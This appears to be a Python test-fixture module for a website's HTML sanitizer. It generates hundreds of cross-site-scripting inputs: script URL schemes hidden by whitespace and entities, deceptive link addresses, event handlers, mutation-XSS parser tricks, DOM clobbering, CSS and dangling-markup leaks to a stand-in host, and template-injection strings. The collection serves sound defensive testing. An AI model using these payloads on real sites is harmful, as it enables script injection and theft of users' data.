# SPDX-FileCopyrightText: 2026 Wijzer in de Wijk
# SPDX-License-Identifier: EUPL-1.2

"""Attacks on rich text and on link addresses, composed by class. All of our own making.

`AANVALLEN` maps the name of an attack to HTML that somebody could type, paste or import. Each carries the mark `kwaad`
where it would run, so that a failing test shows which part came through.
"""

from itertools import product

# Ways to write a script address that a browser may read more kindly than a checker does.
WIT = {
    "kaal": "",
    "spatie": " ",
    "tab": "\t",
    "regel": "\n",
    "wagen": "\r",
    "nul": "\x00",
    "een": "\x01",
    "escape": "\x1b",
    "del": "\x7f",
    "c1": "\x85",
    "hard": "\xa0",
    "ogham": "\u1680",
    "dun": "\u2009",
    "breedteloos": "\u200b",
    "rechts": "\u202e",
    "regelscheider": "\u2028",
    "woordlijm": "\u2060",
    "ideografisch": "\u3000",
    "bom": "\ufeff",
    "entiteit-tab": "&Tab;",
    "entiteit-regel": "&NewLine;",
    "entiteit-tien": "&#10;",
    "entiteit-hex": "&#x0A",
    "zacht": "&shy;",
}
SCHEMAS = {
    "javascript": "javascript:kwaad()",
    "hoofdletters": "JaVaScRiPt:kwaad()",
    "vbscript": "vbscript:kwaad()",
    "data": "data:text/html,<script>kwaad()</script>",
    "data64": "data:text/html;base64,PHNjcmlwdD5rd2FhZCgpPC9zY3JpcHQ+",
    "data-svg": "data:image/svg+xml,<svg onload=kwaad()>",
    "blob": "blob:https://wijzerindewijk.nl/kwaad",
    "file": "file:///etc/kwaad",
    "view-source": "view-source:https://kwaad.example/",
    "feed": "feed:javascript:kwaad()",
    "intent": "intent://kwaad#Intent;scheme=http;end",
    "jar": "jar:https://kwaad.example!/kwaad",
    "ms-office": "ms-word:ofe|u|https://kwaad.example/a.docm",
    "ftp": "ftp://kwaad.example/",
    "ws": "ws://kwaad.example/",
    "about": "about:blank#kwaad",
}
# Addresses that leave the site while they look as if they stay, or hide whose they are.
VREEMDE_ADRESSEN = {
    "dubbele-streep": "//kwaad.example/",
    "drie-strepen": "///kwaad.example/",
    "terugstreep": "/\\kwaad.example/",
    "twee-terugstrepen": "\\\\kwaad.example\\x",
    "https-terugstreep": "https:/\\kwaad.example/",
    "https-een-streep": "https:/kwaad.example/",
    "https-geen-streep": "https:kwaad.example",
    "tab-ertussen": "/\t/kwaad.example/",
    "regel-ertussen": "/\n/kwaad.example/",
    "gebruikersnaam": "https://wijzerindewijk.nl@kwaad.example/",
    "gebruiker-wachtwoord": "https://ons:geheim@kwaad.example/",
    "lege-gebruiker": "https://@kwaad.example/",
    "geen-naam": "https:///kwaad",
    "alleen-poort": "https://:443/kwaad",
    "geen-getal": "https://kwaad.example:kwaad/",
    "poort-te-hoog": "https://kwaad.example:99999/",
    "half-ipv6": "http://[kwaad/",
    "kaal-pad": "kwaad.html",
    "omhoog": "../kwaad",
    "vraagteken": "?volgende=//kwaad.example",
    "onzichtbaar-erin": "https://wijzer\u200bindewijk.nl.kwaad.example/",
    "rechts-naar-links": "https://kwaad.example/\u202efdp.exe",
}
ADRESDRAGERS = {
    "a": '<a href="{}">kwaad</a>',
    "a-zonder-aanhalingstekens": "<a href={}>kwaad</a>",
    "area": '<map><area href="{}">kwaad</map>',
    "form": '<form action="{}"><button>kwaad</button></form>',
    "formaction": '<button formaction="{}">kwaad</button>',
    "img": '<img src="{}" alt="kwaad">',
    "iframe": '<iframe src="{}">kwaad</iframe>',
    "object": '<object data="{}">kwaad</object>',
    "embed": '<embed src="{}">',
    "base": '<base href="{}">kwaad',
    "link": '<link rel="stylesheet" href="{}">',
    "xlink": '<svg><a xlink:href="{}"><text>kwaad</text></a></svg>',
    "math": '<math><mtext href="{}">kwaad</mtext></math>',
    "poster": '<video poster="{}"></video>',
    "cite": '<blockquote cite="{}">kwaad</blockquote>',
    "background": '<table background="{}"><tr><td>kwaad</td></tr></table>',
    "ping": '<a href="/x/" ping="{}">kwaad</a>',
    "srcset": '<img srcset="{} 1x" alt="">',
}
# Handlers on what is allowed, on what is not, and on names that exist in no list.
HANDELAARS = (
    "onclick", "onerror", "onload", "onmouseover", "onfocus", "onbegin", "ontoggle", "onpointerrawupdate", "onwheel",
    "onanimationstart", "onbeforetoggle", "oncontentvisibilityautostatechange", "ONCLICK", "onkwaad",
)  # fmt: skip
HANDELDRAGERS = ("p", "a", "td", "svg", "img", "details", "input autofocus", "kwaad-element", "math")
# Parsing is where cleaned and shown differ: each of these says one thing to a cleaner and another to a browser.
MUTATIES = {
    "math-stijl": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=kwaad()&gt;'>",
    "svg-stijl": "<svg></p><style><a id='</style><img src=1 onerror=kwaad()>'>",
    "annotation-xml": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=kwaad()></style>",
    "annotation-xml-svg": "<math><annotation-xml encoding='application/xhtml+xml'><svg><script>kwaad()</script></svg>",
    "foreignobject": "<svg><foreignObject><p><style><!--</style><a title='--><img src onerror=kwaad()>'></p>",
    "desc": "<svg><desc><noscript><a title='</noscript><img src onerror=kwaad()>'></a></desc></svg>",
    "title-in-svg": "<svg><title><a id='</title><img src onerror=kwaad()>'></title></svg>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=kwaad()>'></noscript>",
    "noembed": "<noembed><p title='</noembed><img src=x onerror=kwaad()>'></noembed>",
    "noframes": "<noframes><p title='</noframes><img src=x onerror=kwaad()>'></noframes>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=kwaad()>'></xmp>",
    "plaintext": "<p>a<plaintext><p title='</plaintext><img src=x onerror=kwaad()>'>",
    "textarea": "<textarea><p title='</textarea><img src=x onerror=kwaad()>'></textarea>",
    "titel": "<title><p title='</title><img src=x onerror=kwaad()>'></title>",
    "iframe": "<iframe><p title='</iframe><img src=x onerror=kwaad()>'></iframe>",
    "template": "<template><p><img src=x onerror=kwaad()></p></template>",
    "select": "<select><style></select><img src=x onerror=kwaad()></style></select>",
    "tabel-form": "<form><table><form><img src=x onerror=kwaad()></form></table></form>",
    "tabel-pleegouder": "<table><a href='javascript:kwaad()'>x<tr><td>y</a></table>",
    "dubbele-form": "<form id=a></form><form><input name=attributes><input form=a>kwaad",
    "commentaar": "<!--><img src=x onerror=kwaad()>-->",
    "commentaar-bang": "<!--a--!><img src=x onerror=kwaad()>",
    "voorwaardelijk": "<!--[if gte IE 4]><script>kwaad()</script><![endif]-->",
    "cdata": "<svg><![CDATA[</svg><img src=x onerror=kwaad()>]]>",
    "cdata-in-html": "<![CDATA[<img src=x onerror=kwaad()>]]>",
    "pi": "<?xml-stylesheet href='javascript:kwaad()'?><p>x</p>",
    "doctype": "<!DOCTYPE p [<!ENTITY x SYSTEM 'file:///kwaad'>]><p>&x;</p>",
    "bokje-erin": "<<script>script>kwaad()<</script>/script>",
    "gebroken-tag": "<scr<script>ipt>kwaad()</scr</script>ipt>",
    "nul-in-tag": "<scr\x00ipt>kwaad()</scr\x00ipt>",
    "streep-in-tag": "<img/src=x/onerror=kwaad()>",
    "formfeed": "<img\x0csrc=x\x0conerror=kwaad()>",
    "onaf": "<img src=x onerror=kwaad()",
    "onaf-script": "<script>kwaad()",
    "accent": "<p title=`<img src=x onerror=kwaad()>`>x</p>",
    "entiteiten": "&lt;img src=x onerror=kwaad()&gt;",
    "dubbele-entiteiten": "&amp;lt;script&amp;gt;kwaad()",
    "vullingband": '<p "><img src=x onerror=kwaad()>">x</p>',
    "utf7": "+ADw-script+AD4-kwaad()+ADw-/script+AD4-",
    "marquee-in-a": "<a href='/x/'><marquee><a href='javascript:kwaad()'>y</a></marquee></a>",
    "knop-in-p": "<p><button><p onclick=kwaad()>x</p></button></p>",
}
# What a name or an identifier can take over, and what can rearrange or repaint the page.
OMKLEDEN = {
    "id": "<p id='cookie'>kwaad</p>",
    "naam": "<a name='getElementById'>kwaad</a>",
    "form-naam": "<form name='body'><input name='firstChild'></form>",
    "id-en-naam": "<a id=kwaad></a><a id=kwaad name=url href='/x/'>kwaad</a>",
    "slot": "<p slot='kwaad' part='kwaad' is='kwaad'>kwaad</p>",
    "data": "<p data-controller='kwaad' data-action='kwaad'>kwaad</p>",
    "htmx": "<a href='/x/' hx-get='/kwaad' hx-on:click='kwaad()'>kwaad</a>",
    "alpine": "<p x-data='kwaad()' x-init='kwaad()' @click='kwaad()'>kwaad</p>",
    "vue": "<p v-html='kwaad' :class='kwaad'>kwaad</p>",
    "klasse": "<p class='kwaad'>kwaad</p>",
    "rol": "<p role='alert' aria-live='assertive' aria-label='kwaad'>kwaad</p>",
    "bewerkbaar": "<p contenteditable tabindex=1 accesskey=k autofocus>kwaad</p>",
    "doel": "<a href='/x/' target='_top' download='kwaad.exe'>kwaad</a>",
    "opener": "<a href='https://kwaad.example/' rel='opener' target='_blank'>kwaad</a>",
    "popover": "<p popover=auto id=k>kwaad</p><button popovertarget=k>kwaad</button>",
    "meta-verversen": "<meta http-equiv='refresh' content='0;url=javascript:kwaad()'>",
    "meta-csp": "<meta http-equiv='Content-Security-Policy' content='kwaad'>",
    "meta-charset": "<meta charset='utf-7'>kwaad",
    "base-doel": "<base target='kwaad'>kwaad",
    "losse-opmaak": "<img src='//kwaad.example/?",
    "losse-form": "<form action='//kwaad.example/'><textarea name=x>",
    "losse-option": "<form action='//kwaad.example/'><select><option>",
    "invoer": "<input type=image src=x onerror=kwaad()>",
    "aanmeldvak": "<form><input type=password name=kwaad></form>",
    "dialoog": "<dialog open>kwaad</dialog>",
    "frameset": "<frameset><frame src='javascript:kwaad()'></frameset>",
    "applet": "<applet code=kwaad></applet>",
    "portal": "<portal src='https://kwaad.example'></portal>",
    "fencedframe": "<fencedframe src='https://kwaad.example'></fencedframe>",
    "audio": "<audio src=x onerror=kwaad()></audio>",
    "bron": "<video><source onerror=kwaad()></video>",
    "animate": "<svg><animate attributeName=href values=javascript:kwaad() /><a><text>kwaad</text></a></svg>",
    "set": "<svg><a><set attributeName=href to=javascript:kwaad() /></a></svg>",
    "use": "<svg><use href='data:image/svg+xml,kwaad#x' /></svg>",
    "svg-script": "<svg><script href='//kwaad.example/x.js' /></svg>",
    "script": "<script>kwaad()</script>",
    "script-src": "<script src=//kwaad.example/x.js></script>",
    "module": "<script type=module>import '//kwaad.example/x.js'</script>",
    "importmap": '<script type=importmap>{"imports":{"x":"//kwaad.example/x.js"}}</script>',
    "json": "<script type='application/ld+json'>{\"kwaad\":1}</script>",
    "voorladen": "<link rel=preload as=script href=//kwaad.example/x.js>",
    "manifest": "<link rel=manifest href=//kwaad.example/m.json>",
    "shadow": "<div><template shadowrootmode=open><script>kwaad()</script></template></div>",
}
STIJLEN = {
    "uitdrukking": "<p style='width:expression(kwaad())'>kwaad</p>",
    "achtergrond": "<p style='background:url(//kwaad.example/x)'>kwaad</p>",
    "bedekken": "<p style='position:fixed;inset:0;z-index:9'>kwaad</p>",
    "lettertype": "<font face=kwaad color=kwaad>kwaad</font>",
    "import": "<style>@import '//kwaad.example/x.css';</style>",
    "kenmerk": "<style>input[value^=a]{background:url(//kwaad.example/a)}</style>",
    "stijlblad": "<link rel=stylesheet href=//kwaad.example/x.css>",
    "escape": "<p style='b\\61 ckground:url(//kwaad.example)'>kwaad</p>",
    "ontsnapping": "<style></style><script>kwaad()</script></style>",
    "bgcolor": "<table bgcolor=kwaad><tr><td bgcolor=kwaad>kwaad</td></tr></table>",
    "scope": "<table><tr><th scope='kwaad'>kwaad</th></tr></table>",
    "start": "<ol start='1 kwaad'><li>kwaad</li></ol>",
    "start-cijfers": "<ol start='٣٣'><li>kwaad</li></ol>",
    "start-lang": "<ol start='99999999999'><li>kwaad</li></ol>",
    "colspan": "<table><tr><td colspan=9999999>kwaad</td></tr></table>",
}
# Literal text: it must stay text, and never be worked out.
SJABLONEN = {
    "django": "{{ 7|add:7 }}{% load kwaad %}{% include 'kwaad' %}",
    "jinja": "{{ ''.__class__.__mro__ }}",
    "format": "{0.__class__.__init__.__globals__}",
    "procent": "%(kwaad)s %s %n",
    "dollar": "${kwaad()} $kwaad",
    "angular": "{{constructor.constructor('kwaad()')()}}",
    "erb": "<%= kwaad() %>",
    "php": "<?php kwaad(); ?>",
    "ssi": "<!--#exec cmd='kwaad' -->",
    "esi": "<esi:include src='//kwaad.example/' />",
    "markdown": "[kwaad](javascript:kwaad())",
    "autolink": "<javascript:kwaad()>",
    "latex": "\\input{/etc/kwaad}",
    "typst": '#read("/etc/kwaad")',
}

# Through what stands for an image, a document or a video, or says which item a link leads to.
_SLEUTEL = "0b5a55aa-0b5a-4b5a-8b5a-0b5a550b5a55"
FIGUREN = {
    "video-script": "<figure data-video='javascript:kwaad()'></figure>",
    "video-data": "<figure data-video='data:text/html,kwaad'></figure>",
    "video-andere-host": "<figure data-video='https://kwaad.example/watch?v=abcdefghijk'></figure>",
    "video-lijkt-op": "<figure data-video='https://youtube.com.kwaad.example/watch?v=abcdefghijk'></figure>",
    "video-achter-apenstaart": "<figure data-video='https://www.youtube.com@kwaad.example/watch?v=abcdefghijk'></figure>",
    "video-poort": "<figure data-video='https://www.youtube.com:444/watch?v=abcdefghijk'></figure>",
    "video-relatief": "<figure data-video='//kwaad.example/a.mp4'></figure>",
    "video-omhoog": "<figure data-video='/media/../kwaad.mp4'></figure>",
    "video-uitbraak": "<figure data-video='https://vimeo.com/123456\"onclick=\"kwaad()'></figure>",
    "video-doorverwijzing": "<figure data-video='https://www.youtube.com/redirect?q=https://kwaad.example'></figure>",
    "video-eigen-script": "<figure data-video='/kwaad.js'></figure>",
    "beeld-adres": "<figure data-afbeelding='https://kwaad.example/x.png'></figure>",
    "beeld-uitbraak": f"<figure data-afbeelding='{_SLEUTEL}\" onerror=\"kwaad()'></figure>",
    "beeld-los": "<img src=x onerror=kwaad()>",
    "beeld-in-figuur": f"<figure data-afbeelding='{_SLEUTEL}'><img src=x onerror=kwaad()></figure>",
    "beeld-stijl": f"<figure data-afbeelding='{_SLEUTEL}' style='background:url(//kwaad.example)'></figure>",
    "twee-dingen": f"<figure data-afbeelding='{_SLEUTEL}' data-video='https://vimeo.com/123456'></figure>",
    "leeg": "<figure onclick=kwaad()>kwaad</figure>",
    "genest": f"<figure data-document='{_SLEUTEL}'><figure data-video='javascript:kwaad()'><script>kwaad()</script>",
    "bijschrift-script": f"<figure data-document='{_SLEUTEL}'><figcaption><script>kwaad()</script></figcaption></figure>",
    "bijschrift-los": "<figcaption onmouseover=kwaad()>kwaad</figcaption>",
    "bijschrift-in-svg": f"<svg><figure data-document='{_SLEUTEL}'><figcaption><style></svg><img onerror=kwaad()>",
    "bijschrift-sluit-figuur": f"<figure data-document='{_SLEUTEL}'><figcaption>&lt;/figure&gt;<b></figure><i onclick=kwaad()>",
    "in-adres": f"<a href='/<figure data-document=\"{_SLEUTEL}\"></figure>kwaad'>kwaad</a>",
    "item-adres": "<a href='/x/' data-item='javascript:kwaad()'>kwaad</a>",
    "item-uitbraak": "<a href='/x/' data-item='toolkit.les.1\" onclick=\"kwaad()'>kwaad</a>",
    "iframe": "<figure data-video='https://vimeo.com/123456'><iframe src='//kwaad.example'></iframe></figure>",
    "object": "<figure><object data='//kwaad.example/kwaad.swf'></object></figure>",
    "word-script": "<!--[if gte mso 9]><xml><script>kwaad()</script></xml><![endif]--><p class=MsoNormal>kwaad</p>",
    "word-lijst": "<p style='mso-list:l0 level1 lfo1' onclick=kwaad()>·&nbsp;<img src=x onerror=kwaad()>kwaad</p>",
    "word-naamruimte": "<o:p onclick=kwaad()><v:shape style='behavior:url(#kwaad)'>kwaad</v:shape></o:p>",
    "gdocs": "<b id='docs-internal-guid-x' style='font-weight:normal'><span style='font-weight:700' onclick=kwaad()>k</span>",
    "stijl-uitbraak": "<p style='\"><script>kwaad()</script>'>kwaad</p>",
    "data-stijl": "<p style='x' data-kwaad='\"><img src=x onerror=kwaad()>'>kwaad</p>",
}


def _aanvallen() -> dict[str, str]:
    found: dict[str, str] = {}
    for (schema, adres), (wit, teken) in product(SCHEMAS.items(), WIT.items()):
        found[f"schema-{schema}-{wit}-ervoor"] = ADRESDRAGERS["a"].format(f"{teken}{adres}")
    for wit, teken in WIT.items():
        found[f"schema-javascript-{wit}-erin"] = ADRESDRAGERS["a"].format(f"java{teken}script:kwaad()")
        found[f"schema-javascript-{wit}-voor-dubbelepunt"] = ADRESDRAGERS["a"].format(f"javascript{teken}:kwaad()")
    for (drager, html), (schema, adres) in product(ADRESDRAGERS.items(), SCHEMAS.items()):
        found[f"drager-{drager}-{schema}"] = html.format(adres)
    for naam, adres in VREEMDE_ADRESSEN.items():
        found[f"adres-{naam}"] = ADRESDRAGERS["a"].format(adres)
    for element, handelaar in product(HANDELDRAGERS, HANDELAARS):
        found[f"handelaar-{element.split()[0]}-{handelaar}"] = f"<{element} {handelaar}='kwaad()'>kwaad</{element}>"
    for klasse, groep in (
        ("mutatie", MUTATIES),
        ("omkleden", OMKLEDEN),
        ("stijl", STIJLEN),
        ("sjabloon", SJABLONEN),
        ("figuur", FIGUREN),
    ):
        found |= {f"{klasse}-{naam}": html for naam, html in groep.items()}
    # Inside what is allowed, a cleaner may look less well.
    for drager in ("<table><tr><td>{}</td></tr></table>", "<ul><li>{}</li></ul>", "<blockquote>{}</blockquote>"):
        for naam, html in MUTATIES.items():
            found[f"mutatie-{naam}-in-{drager[1 : drager.index('>')]}"] = drager.format(html)
    return found


AANVALLEN = _aanvallen()
